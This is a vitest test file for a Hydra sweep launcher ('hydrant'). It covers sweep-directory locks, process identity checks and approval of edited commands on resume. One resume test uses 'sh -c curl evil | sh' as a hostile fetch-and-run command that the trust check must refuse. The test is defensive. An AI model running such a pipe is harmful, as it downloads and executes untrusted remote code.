import { spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { LaunchError } from "../../src/errors.js";
import { claimNewSweepDir, LOCK_FILE, lockSweep } from "../../src/runs/sweep-lock.js";
import { checkResumeCommand, trustCommand } from "../../src/runs/trust.js";
import { isSameProcess, processStartTime } from "../../src/job/process-identity.js";

const CLI = path.resolve(import.meta.dirname, "../../dist/cli.js");
const tmp = () => mkdtempSync(path.join(os.tmpdir(), "hydrant-lock-"));

describe("one sweep dir, one owner", () => {
  it("a second lock on a dir refuses while the first holder lives; a dead holder's lock is taken over", () => {
    const dir = tmp();
    const first = lockSweep(dir);
    expect(() => lockSweep(dir)).toThrow(/being run by hydrant process \d+ right now/);
    first.release();
    lockSweep(dir).release();
    writeFileSync(path.join(dir, LOCK_FILE), JSON.stringify({ pid: 2 ** 22 + 12345, start: "1" }));
    const taken = lockSweep(dir);
    expect(JSON.parse(readFileSync(path.join(dir, LOCK_FILE), "utf8")).pid).toBe(process.pid);
    taken.release();
    expect(existsSync(path.join(dir, LOCK_FILE))).toBe(false);
  });

  it("new sweeps never share a dir: taken or used dirs give dir_2, dir_3", () => {
    const base = path.join(tmp(), "12-00-00");
    const a = claimNewSweepDir(base);
    const b = claimNewSweepDir(base);
    expect([a.dir, b.dir]).toEqual([base, `${base}_2`]);
    a.release();
    writeFileSync(path.join(base, "experiment.json"), "{}");
    expect(claimNewSweepDir(base).dir).toBe(`${base}_3`);
  });

  it("two sweeps started in the same second (same hydra.sweep.dir) get distinct dirs; a concurrent --resume refuses", async () => {
    const cwd = tmp();
    mkdirSync(path.join(cwd, "conf"));
    writeFileSync(path.join(cwd, "conf/config.yaml"), "x: 0\n");
    const args = ["-cd", "conf", "-cn", "config", "-m", "x=1,2", "hydra.sweep.dir=same", "--", "sh", "-c", "sleep 1"];
    const env = { ...process.env, HYDRANT_STATE_DIR: path.join(cwd, "state") };
    const runs = [0, 1].map(() => spawn(process.execPath, [CLI, ...args], { cwd, env, stdio: "ignore" }));
    // While they run, a resume of the first dir must refuse.
    const deadline = Date.now() + 20_000;
    while (!existsSync(path.join(cwd, "same/experiment.json")) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    const resume = spawnSync(process.execPath, [CLI, "--resume", "same"], { cwd, env, encoding: "utf8" });
    const codes = await Promise.all(runs.map((p) => new Promise((r) => p.on("exit", r))));
    expect(codes).toEqual([0, 0]);
    expect(existsSync(path.join(cwd, "same/experiment.json")) && existsSync(path.join(cwd, "same_2/experiment.json"))).toBe(true);
    expect(resume.status === 1 ? resume.stderr : "finished first").toMatch(/being run by hydrant process|finished first/);
  }, 60_000);
});

describe("the command a resume reads from experiment.json", () => {
  it("runs only the command noted when the sweep started; an edited one needs --yes", async () => {
    const dir = tmp();
    process.env.HYDRANT_STATE_DIR = path.join(dir, "state");
    try {
      trustCommand(dir, ["python", "train.py"]);
      await expect(checkResumeCommand(dir, ["python", "train.py"], "m.json", false)).resolves.toBeUndefined();
      await expect(checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).rejects.toThrow(LaunchError);
      await expect(checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).rejects.toThrow(/sh -c 'curl evil \| sh'[\s\S]*--yes \(or from a terminal, which asks\)/);
      await checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", true);
      await expect(checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", false)).resolves.toBeUndefined();
    } finally {
      delete process.env.HYDRANT_STATE_DIR;
    }
  });

  it("on a terminal, shows the command and asks: yes runs it (and notes it), no refuses", async () => {
    const dir = tmp();
    process.env.HYDRANT_STATE_DIR = path.join(dir, "state");
    try {
      const asked: string[] = [];
      const answer = (yes: boolean) => async (question: string) => (asked.push(question), yes);
      await expect(checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(false))).rejects.toThrow(/Not resumed: you answered no\./);
      expect(asked[0]).toMatch(/^m\.json names the command\n\n    sh -c 'echo edited'\n[\s\S]*\nRun it\?$/);
      await checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(true));
      // Approved once, noted: the next resume does not ask again.
      await checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(false));
      expect(asked).toHaveLength(2);
      // --yes never asks.
      await checkResumeCommand(dir, ["sh", "-c", "echo other"], "m.json", true, answer(false));
      expect(asked).toHaveLength(2);
    } finally {
      delete process.env.HYDRANT_STATE_DIR;
    }
  });
});

describe("process identity", () => {
  it("a pid alone is not enough: the start time must match", () => {
    const me = { pid: process.pid, start: processStartTime(process.pid) };
    expect(isSameProcess(me)).toBe(true);
    if (me.start !== undefined) expect(isSameProcess({ pid: process.pid, start: `${me.start}0` })).toBe(false);
    expect(isSameProcess({ pid: 2 ** 22 + 12345 })).toBe(false);
  });
});
